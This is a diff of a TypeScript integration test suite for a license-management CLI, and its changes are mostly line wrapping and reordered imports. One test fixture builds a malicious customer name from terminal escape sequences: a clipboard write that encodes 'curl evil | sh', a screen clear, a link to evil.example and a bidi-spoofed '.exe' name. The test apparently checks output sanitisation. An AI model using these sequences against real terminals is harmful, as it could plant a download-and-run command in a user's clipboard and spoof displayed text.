@@ -4,8 +4,8 @@ import { createServer } from 'node:net';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { devSecretsPath, formatEnvFile, readDevSecrets } from '../../../lib/local/devSecrets';
-import { startLocalStack, type LocalStack } from '../../../lib/local/stack';
-import { startFakeAws, type FakeAws } from './fakeAws';
+import { type LocalStack, startLocalStack } from '../../../lib/local/stack';
+import { type FakeAws, startFakeAws } from './fakeAws';
 import { buildCli, cli } from './support';
 
 /**
@@ -99,7 +99,12 @@ describe('keysmith CLI against the local stack', () => {
       expect(licenses).toHaveLength(2);
       expect(Object.keys(licenses[0]!).sort()).toEqual([...LICENSE_ROW_KEYS].sort());
       const [byEmail, byKey, human] = await Promise.all([run('licenses', '--email', buyer, '--json'), run('licenses', '--key', licenses[0]!.key, '--json'), run('licenses', '--order', order)]);
-      expect(byEmail.json<Row[]>().map((l) => l.licenseId).sort()).toEqual(licenses.map((l) => l.licenseId).sort());
+      expect(
+        byEmail
+          .json<Row[]>()
+          .map((l) => l.licenseId)
+          .sort(),
+      ).toEqual(licenses.map((l) => l.licenseId).sort());
       expect(byKey.json<Row[]>()).toEqual([licenses[0]]);
       expect(human.stdout).toMatch(/^LICENSE\s+PROVIDER\s+ORDER/);
     });
@@ -122,7 +127,9 @@ describe('keysmith CLI against the local stack', () => {
       // Prepare: a signed FastSpring order whose customer name carries an OSC 52 clipboard
       // write, a screen clear, an OSC 8 link, a C1 CSI and a bidi override.
       const evil = `Eve\u001b]52;c;Y3VybCBldmlsIHwgc2g=\u0007\u001b[2J\u001b]8;;https://evil.example/\u001b\\link\u001b]8;;\u001b\\\u009b2J\u202Egpj.exe`;
-      const payload = JSON.parse(readFileSync(join(__dirname, '../../fixtures/providers/fastspring-order-completed.json'), 'utf8')) as { events: { id: string; data: { id: string; order: string; account: { contact: { first: string; email: string } }; customer?: { first: string } } }[] };
+      const payload = JSON.parse(readFileSync(join(__dirname, '../../fixtures/providers/fastspring-order-completed.json'), 'utf8')) as {
+        events: { id: string; data: { id: string; order: string; account: { contact: { first: string; email: string } }; customer?: { first: string } } }[];
+      };
       const evilOrder = `evil-${Date.now()}`;
       const event = payload.events[0]!;
       event.id = `evt-${evilOrder}`;
@@ -150,7 +157,11 @@ describe('keysmith CLI against the local stack', () => {
     it('shows the license with history and the events applied, email status included', async () => {
       const [json, human] = await Promise.all([run('show', licenses[0]!.licenseId, '--json'), run('show', licenses[0]!.licenseId)]);
       expect(json.code).toBe(0);
-      const shown = json.json<{ license: Row & { history: { action: string }[] }; entitlement: { order: string; customer: { email: string } }; events: { action: string; email?: { status: string; messageId?: string } }[] }>();
+      const shown = json.json<{
+        license: Row & { history: { action: string }[] };
+        entitlement: { order: string; customer: { email: string } };
+        events: { action: string; email?: { status: string; messageId?: string } }[];
+      }>();
       expect(shown.license).toMatchObject({ licenseId: licenses[0]!.licenseId, status: 'active' });
       expect(shown.license.history[0]).toMatchObject({ action: 'issue' });
       expect(shown.entitlement).toMatchObject({ order, customer: { email: buyer } });
@@ -229,7 +240,8 @@ describe('keysmith CLI against the local stack', () => {
         run('deliveries', '--since', '1h'),
       ]);
       expect(all.code).toBe(0);
-      const rows = all.json<{ deliveryId: string; provider: string; status: string; route: string; receivedAt: string; problems: string[]; events: { eventId: string; scope: string; status: string }[] }[]>();
+      const rows =
+        all.json<{ deliveryId: string; provider: string; status: string; route: string; receivedAt: string; problems: string[]; events: { eventId: string; scope: string; status: string }[] }[]>();
       const ours = rows.find((r) => r.deliveryId === deliveryId);
       expect(ours).toMatchObject({ provider: 'fastspring', status: 'applied', route: 'POST /webhooks/fastspring', problems: [], events: [{ scope: order, status: 'applied' }] });
       expect(byOrder.json<{ deliveryId: string }[]>().map((r) => r.deliveryId)).toEqual([deliveryId]);
@@ -342,7 +354,12 @@ describe('keysmith CLI against the local stack', () => {
 
   describe('emails, verify, keys', () => {
     it('emails keeps its --json contract; verify exits 3 for an invalid token; keys generate', async () => {
-      const [mails, bad, keys, aws] = await Promise.all([run('emails', '--to', buyer, '--json'), run('verify', 'not.a.token'), run('keys', 'generate', '--json'), cli(['emails', '--stack', 'Prod'], { port })]);
+      const [mails, bad, keys, aws] = await Promise.all([
+        run('emails', '--to', buyer, '--json'),
+        run('verify', 'not.a.token'),
+        run('keys', 'generate', '--json'),
+        cli(['emails', '--stack', 'Prod'], { port }),
+      ]);
       const rows = mails.json<Record<string, unknown>[]>();
       expect(Object.keys(rows[0]!).sort()).toEqual(['at', 'from', 'html', 'messageId', 'subject', 'text', 'to']);
       expect(bad.code).toBe(3);
@@ -433,9 +450,18 @@ describe('keysmith CLI against the local stack', () => {
     afterAll(() => aws?.stop());
 
     it('finds resources from the stack outputs', async () => {
-      const [found, dlq, missing] = await Promise.all([inAws(['licenses', '--order', order, '--json']), inAws(['dlq', 'list', '--json']), cli(['licenses', '--order', order, '--stack', 'Nope', '--region', 'us-east-1'], { port, env: { AWS_ENDPOINT_URL_CLOUDFORMATION: aws.url } })]);
+      const [found, dlq, missing] = await Promise.all([
+        inAws(['licenses', '--order', order, '--json']),
+        inAws(['dlq', 'list', '--json']),
+        cli(['licenses', '--order', order, '--stack', 'Nope', '--region', 'us-east-1'], { port, env: { AWS_ENDPOINT_URL_CLOUDFORMATION: aws.url } }),
+      ]);
       expect(found.code).toBe(0);
-      expect(found.json<Row[]>().map((l) => l.licenseId).sort()).toEqual(licenses.map((l) => l.licenseId).sort());
+      expect(
+        found
+          .json<Row[]>()
+          .map((l) => l.licenseId)
+          .sort(),
+      ).toEqual(licenses.map((l) => l.licenseId).sort());
       expect(dlq.json()).toEqual({ count: 0, messages: [] });
       expect(missing.code).toBe(6);
       expect(missing.stderr).toMatch(/Nope does not exist/);
